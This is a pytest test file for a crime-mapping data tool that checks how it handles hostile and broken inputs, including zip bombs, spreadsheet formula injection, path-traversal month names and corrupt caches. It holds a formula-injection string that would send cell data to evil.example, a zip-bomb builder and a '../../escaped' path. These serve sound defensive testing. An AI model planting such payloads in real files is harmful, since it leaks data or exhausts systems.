"""Hostile and broken inputs, one test per case an attacker or a bad file tried (issue 11's table).

Each ends with exit 0 or 2, one line of error and no traceback, and true counts: the same rows where the
input means the same thing, the bad record refused where it is bad.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from conftest import HEADER, ROOT, TINY_WARDS, police_row, tiny_wards_geojson, write_police_csv

from vrc_geo.cli import main
from vrc_geo.config import find_sources
from vrc_geo.dataset.store import load_police
from vrc_geo.errors import BoundaryError, InputFileError, ServiceError
from vrc_geo.io.police import read_police
from vrc_geo.io.writers import table_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = main(["--quiet", *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def one_line_error(code: int, err: str) -> None:
    assert code == 2
    assert "Traceback" not in err
    assert len(err.strip().splitlines()) == 1, err


def tiny_sources(tmp_path: Path, rows: list[list[str]], **kw):
    crimes = write_police_csv(tmp_path / "police_uk" / "2022-01" / "2022-01-kent-street.csv", rows)
    wards = tiny_wards_geojson(tmp_path / "boundaries" / "tiny.geojson", **kw)
    return crimes, wards


# -- zip bomb -------------------------------------------------------------------------------------------


def _bomb(path: Path, size_mb: int) -> Path:
    line = (",".join(police_row(x=575500, y=155500, crime_id="x" * 64)) + "\n").encode()
    name = "2022-01/2022-01-kent-street.csv"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(name, "w", force_zip64=True) as handle,
    ):
        handle.write((",".join(HEADER) + "\n").encode())
        block = line * (1_048_576 // len(line))
        for _ in range(size_mb):
            handle.write(block)
    return path


def test_zip_bomb_is_refused_in_bounded_memory(tmp_path, sample_dir):
    bomb = _bomb(tmp_path / "bomb.zip", 200)
    assert bomb.stat().st_size < 2_000_000  # a small file that inflates to 200 MB
    probe = (
        "import resource, subprocess, sys\n"
        "p = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "print(p.returncode); print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); "
        "print(p.stderr, end='')\n"
    )
    cmd = [sys.executable, "-m", "vrc_geo", "--quiet", "summary", "--crimes", str(bomb)]
    cmd += ["--boundaries", str(sample_dir / "boundaries" / "wards_2013")]
    out = subprocess.run([sys.executable, "-c", probe, *cmd], capture_output=True, text=True, cwd=ROOT, check=True)
    code, peak_kib, *err = out.stdout.splitlines()
    assert int(code) == 2
    assert len(err) == 1 and ("zip bomb" in err[0] or "over the 64 MiB" in err[0]), err
    assert int(peak_kib) * 1024 < 1.2e9, f"peak memory {int(peak_kib) / 1024:.0f} MB"


def test_zip_member_over_the_ratio_is_refused(tmp_path, monkeypatch):
    import vrc_geo.io.police_files as pf

    monkeypatch.setattr(pf, "MAX_FILE_BYTES", 512 * 1024 * 1024)  # the ratio, not the size, must stop it
    with pytest.raises(InputFileError, match="inflates more than 100 times"):
        read_police([_bomb(tmp_path / "b.zip", 3)])


# -- the same month twice ---------------------------------------------------------------------------------


def test_month_as_folder_and_zip_is_counted_once(tmp_path, sample_dir):
    folder = sample_dir / "police_uk" / "2022-01"
    archive = tmp_path / "2022-01.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        for f in folder.glob("*-street.csv"):
            z.write(f, f"2022-01/{f.name}")
    wards = sample_dir / "boundaries" / "wards_2013"
    once = load_police(find_sources(crimes=[folder], boundaries=wards))
    twice = load_police(find_sources(crimes=[folder, archive], boundaries=wards))
    assert twice.reconciliation.in_area == once.reconciliation.in_area
    assert twice.reconciliation.no_location == once.reconciliation.no_location
    asb = once.records["crime_type"].astype(str).eq("Anti-social behaviour").sum()
    assert asb > 0 and twice.records["crime_type"].astype(str).eq("Anti-social behaviour").sum() == asb
    dup = twice.rejects["reason"].str.startswith("duplicate file")
    assert dup.sum() == once.reconciliation.rows_read  # every row of the copy is accounted for, as a copy
    assert any("repeats" in n for n in twice.notes)
    # The same month from two sources with different bytes (a re-download): still read once, and said.
    other = tmp_path / "elsewhere" / "2022-01-kent-street.csv"
    other.parent.mkdir()
    other.write_bytes(next(folder.glob("*-street.csv")).read_bytes().replace(b"\n", b"\r\n"))
    again = read_police([folder, other])
    assert len(again.records) == len(read_police([folder]).records)


# -- spreadsheet formulas ---------------------------------------------------------------------------------


def _cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def test_formulas_are_neutralised_in_csv_and_xlsx():
    frame = pd.DataFrame({"location": [HOSTILE, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "On or near Park"], "n": 1})
    csv_text = table_bytes(frame, ".csv").decode()
    rows = pd.read_csv(io.StringIO(csv_text), dtype=str, keep_default_na=False)["location"].tolist()
    assert rows[:6] == ["'" + v for v in frame["location"][:6]]
    assert rows[6] == "On or near Park"
    cells = _cells(table_bytes(frame, ".xlsx", metadata={"note": "=1+1"}))
    assert all(c.data_type != "f" for c in cells)  # no cell is a live formula
    text = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + HOSTILE in text and "'=1+1" in text


def test_export_wards_with_a_hostile_ward_name(capsys, tmp_path):
    rows = [police_row(x=575500, y=155500) for _ in range(3)]
    crimes, wards = tiny_sources(tmp_path, rows)
    collection = json.loads(wards.read_text())
    collection["features"][0]["properties"]["WD23NM"] = HOSTILE
    wards.write_text(json.dumps(collection))
    for ext in (".csv", ".xlsx"):
        out = tmp_path / f"w{ext}"
        code, _, err = run(
            capsys, "export-wards", "--out", str(out), "--crimes", str(crimes), "--boundaries", str(wards)
        )
        assert code == 0, err
        if ext == ".csv":
            names = pd.read_csv(out, dtype=str)["ward_name"]
        else:
            assert all(c.data_type != "f" for c in _cells(out.read_bytes()))
            names = pd.read_excel(out, sheet_name="data", dtype=str)["ward_name"]
        assert ("'" + HOSTILE) in set(names) and HOSTILE not in set(names)


def test_hotspot_top_locations_are_neutralised(sample_dataset):

    from vrc_geo.dataset.aggregate import make_selection
    from vrc_geo.hotspots.report import hotspot_file_bytes
    from vrc_geo.hotspots.service import hotspots_for

    records = sample_dataset.records.copy()
    thanet = records["district_code"].astype(str).eq("E07000114")
    busiest = records.loc[thanet, "location"].value_counts().index[0]
    records["location"] = records["location"].astype(object).where(records["location"] != busiest, HOSTILE)
    dataset = sample_dataset.with_records(records)
    bundle = hotspots_for(dataset, make_selection(districts=["Thanet"]), backtest=False)
    assert bundle.result.table["top_locations"].str.startswith(HOSTILE).any()
    for fmt in (".csv", ".xlsx"):
        data = hotspot_file_bytes(bundle.result, fmt, dataset=dataset)
        if fmt == ".csv":
            cells = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False).to_numpy().ravel()
        else:
            assert all(c.data_type != "f" for c in _cells(data))
            cells = pd.read_excel(io.BytesIO(data), sheet_name="hotspots", dtype=str).fillna("").to_numpy().ravel()
        assert any(c.startswith("'" + HOSTILE) for c in cells)
        assert not any(c.startswith(("=", "+", "@")) for c in cells)


# -- a month name that would be a path ---------------------------------------------------------------------


def test_fetch_refuses_a_month_that_is_a_path(tmp_path):
    from fake_services import FakeServer, FakeState

    from vrc_geo.fetch import Client, available_months, fetch_month

    state = FakeState()
    state.months = {"../../escaped": []}
    with FakeServer(state) as server:
        client = Client(backoff_s=0.01, max_per_s=500, timeout_s=10, retries=1)
        with pytest.raises(ServiceError, match="not YYYY-MM"):
            available_months(client, f"{server.url}/api")
        out = tmp_path / "data" / "police_uk"
        with pytest.raises(ServiceError, match="not YYYY-MM"):
            fetch_month(client, "../../escaped", None, out, base_url=f"{server.url}/api")
    assert not list(tmp_path.rglob("*escaped*"))


# -- health records and counts ----------------------------------------------------------------------------


def test_health_record_at_an_impossible_point_is_refused(sample_dataset):
    from vrc_geo.health.placement import place_health
    from vrc_geo.io.health import REASONS, read_health_frames

    rows = [
        {"record_id": f"r{i}", "incident_date": "2022-05-01", "easting": "575600", "northing": "155600"}
        for i in range(10)
    ]
    rows.append({"record_id": "bad", "incident_date": "2022-05-01", "easting": "9e9", "northing": "9e9"})
    rows.append({"record_id": "inf", "incident_date": "2022-05-01", "latitude": "inf", "longitude": "0.5"})
    read = read_health_frames([("x.csv", pd.DataFrame(rows))])
    assert read.rejects["reason"].tolist() == [REASONS["coords"]] * 2
    placed = place_health(read, sample_dataset.wards)
    assert placed["ward_code"].nunique() == 1 and len(placed) == 10


def test_place_records_never_puts_a_non_finite_point_in_a_ward(sample_dataset):
    from vrc_geo.dataset.geography import place_records

    records = pd.DataFrame(
        {"lon": [np.inf, np.nan, 1.0], "lat": [np.inf, 51.3, np.nan], "lsoa_code": None, "lsoa_name": None}
    )
    placed = place_records(records, sample_dataset.wards.wards)
    assert placed["ward_code"].isna().all()


@pytest.mark.parametrize("count", ["inf", "-inf", "1e19", "99999999999999999999", "nan", "1000001"])
def test_health_count_out_of_range_is_refused(capsys, sample_dir, tmp_path, count):
    from vrc_geo.io.health import REASONS, read_health_frames

    frame = pd.DataFrame(
        {"area_code": ["E07000114", "E07000114"], "period": ["2022", "2021"], "admissions": [count, "7"]}
    )
    read = read_health_frames([("c.csv", frame)], known_codes={"E07000114": "E07000114"})
    assert read.rejects["reason"].tolist() == [REASONS["count"]]
    assert read.records["admissions"].tolist() == [7]
    path = tmp_path / "counts.csv"
    frame.to_csv(path, index=False)
    code, _, err = run(
        capsys, "health", "--admissions", str(path), "--out", str(tmp_path / "o.csv"), "--data-dir", str(sample_dir)
    )
    assert code in (0, 2) and "Traceback" not in err and "unexpected" not in err


# -- boundaries -------------------------------------------------------------------------------------------


def _add_detached_part(path: Path) -> None:
    """Ward Alpha gains an island 5 km east, stored as a second feature with the same code."""
    collection = json.loads(path.read_text())
    first = collection["features"][0]
    x0, y0 = TINY_WARDS[0][3] + 5000, TINY_WARDS[0][4]
    ring = [[x0, y0], [x0 + 500, y0], [x0 + 500, y0 + 500], [x0, y0 + 500], [x0, y0]]
    collection["features"].append({**first, "geometry": {"type": "Polygon", "coordinates": [ring]}})
    path.write_text(json.dumps(collection))


def test_ward_stored_as_several_features_is_merged(tmp_path):
    rows = [police_row(x=575500, y=155500) for _ in range(4)] + [police_row(x=580250, y=155250) for _ in range(6)]
    crimes, wards = tiny_sources(tmp_path, rows)
    _add_detached_part(wards)
    dataset = load_police(find_sources(crimes=[crimes], boundaries=wards))
    assert len(dataset.wards.wards) == 4
    assert dataset.reconciliation.in_area == 10 and dataset.reconciliation.outside_area == 0
    assert dataset.records["ward_code"].astype(str).eq("E05900001").sum() == 10
    assert any("same code" in n for n in dataset.wards.notes)


@pytest.mark.parametrize("geometry", [None, {"type": "Polygon", "coordinates": []}])
def test_ward_without_geometry_refuses_the_file(capsys, tmp_path, geometry):
    crimes, wards = tiny_sources(tmp_path, [police_row(x=576500, y=155500)])
    collection = json.loads(wards.read_text())
    collection["features"][1]["geometry"] = geometry
    wards.write_text(json.dumps(collection))
    with pytest.raises(BoundaryError, match="E05900002 Bravo"):
        load_police(find_sources(crimes=[crimes], boundaries=wards), use_cache=False)
    code, _, err = run(capsys, "summary", "--crimes", str(crimes), "--boundaries", str(wards))
    one_line_error(code, err)
    assert "E05900002 Bravo" in err


# -- oversized fields, quoted line breaks, corrupt cache ----------------------------------------------------


@pytest.mark.parametrize(("size", "blank_line"), [(3_000_000, False), (200_000, True)])
def test_oversized_field_is_one_rejected_row(capsys, tmp_path, size, blank_line):
    rows = [police_row(x=575500, y=155500) for _ in range(5)]
    rows[2] = police_row(x=575500, y=155500, location="A" * size)
    crimes, wards = tiny_sources(tmp_path, rows)
    if blank_line:
        crimes.write_bytes(crimes.read_bytes() + b"\r\n\r\n")
    read = read_police([crimes])
    assert len(read.records) == 4 and len(read.rejects) == 1
    assert read.rejects["reason"].iloc[0].startswith("line too long") and read.rejects["source_line"].iloc[0] == 4
    code, out, err = run(capsys, "summary", "--json", "--crimes", str(crimes), "--boundaries", str(wards))
    assert code == 0, err
    assert json.loads(out)["rows_read"] == 5


def test_quoted_line_break_is_one_record(tmp_path):
    rows = [police_row(x=575500, y=155500) for _ in range(200)]
    rows[57] = police_row(x=575500, y=155500, location="On or near\nHigh Street")
    crimes, _ = tiny_sources(tmp_path, rows)
    read = read_police([crimes])
    assert len(read.records) == 200 and read.rejects.empty
    assert int(read.files["rows_read"].sum()) == 200
    assert read.records["location"].str.contains("\n").sum() == 1
    assert read.records["source_line"].tolist()[57:59] == [59, 61]  # the record after it keeps its line


def test_corrupt_cache_is_rebuilt_with_a_note(tmp_path, monkeypatch):
    monkeypatch.setenv("VRC_GEO_CACHE_DIR", str(tmp_path / "cache"))
    crimes, wards = tiny_sources(tmp_path, [police_row(x=575500, y=155500) for _ in range(5)])
    sources = find_sources(crimes=[crimes], boundaries=wards)
    first = load_police(sources)
    for name in ("records.arrow", "wards.parquet"):
        for path in (tmp_path / "cache").rglob(name):
            path.write_bytes(path.read_bytes()[:50])
    again = load_police(sources)
    assert len(again.records) == len(first.records) == 5
    assert any("unreadable and was rebuilt" in n for n in [*again.notes, *again.wards.notes])
    third = load_police(sources)  # the rebuilt cache is whole, and the note is not repeated
    assert third.from_cache and not any("rebuilt" in n for n in third.notes)


# -- cache keys ---------------------------------------------------------------------------------------------


def test_cache_key_includes_how_files_were_chosen(tmp_path, monkeypatch):
    monkeypatch.setenv("VRC_GEO_CACHE_DIR", str(tmp_path / "cache"))
    crimes, wards = tiny_sources(tmp_path, [police_row(x=575500, y=155500) for _ in range(3)])
    extra = write_police_csv(crimes.parent / "extra.csv", [police_row(x=576500, y=155500) for _ in range(4)])
    by_folder = load_police(find_sources(crimes=[crimes.parent], boundaries=wards))
    by_name = load_police(find_sources(crimes=[crimes, extra], boundaries=wards))
    assert len(by_folder.records) == 3  # a folder reads only *-street.csv files
    assert len(by_name.records) == 7  # a file named explicitly is read whatever its name
    assert not by_name.from_cache


# -- temporary names ------------------------------------------------------------------------------------------


def test_lazy_tables_use_unique_temporary_names(tmp_path, monkeypatch):
    import threading

    from vrc_geo.dataset.cache import cached_table

    used: list[str] = []
    original = pd.DataFrame.to_parquet

    def spy(self, path, *a, **k):
        used.append(str(path))
        return original(self, path, *a, **k)

    monkeypatch.setattr(pd.DataFrame, "to_parquet", spy)
    results = []
    barrier = threading.Barrier(2)

    def build() -> pd.DataFrame:
        barrier.wait()
        return pd.DataFrame({"a": range(1000)})

    threads = [
        threading.Thread(
            target=lambda: results.append(
                cached_table(tmp_path, "x.parquet", build, columns=("a",), may_be_none=False, notes=[])
            )
        )
        for _ in "ab"
    ]
    [t.start() for t in threads]
    [t.join() for t in threads]
    assert len(set(used)) == 2  # two writers, two temporary files
    assert len(pd.read_parquet(tmp_path / "x.parquet")) == 1000
    assert not [p for p in os.listdir(tmp_path) if p != "x.parquet"]
